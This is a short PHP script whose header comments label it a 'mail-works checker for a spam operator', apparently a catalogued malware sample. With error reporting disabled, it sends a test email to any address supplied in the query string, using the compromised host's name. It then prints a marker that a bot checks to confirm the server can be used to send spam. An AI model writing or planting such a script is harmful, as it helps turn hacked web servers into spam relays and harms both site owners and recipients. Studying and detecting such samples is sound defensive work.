<?php
// Family: mailer/checker
// Style: mail-works checker for a spam operator
// Trait: sends a test message to an address from the query string and prints a marker the bot greps for
error_reporting(0);
$to = $_GET['email'];
$id = rand(1000, 9999);
if (mail($to, "Result Report Test - $id", "WORKING! id $id " . $_SERVER['HTTP_HOST'], "From: test@" . $_SERVER['HTTP_HOST'])) {
	echo "<b>Send an report to [$to] - $id</b>";
} else {
	echo "mail() not working";
}
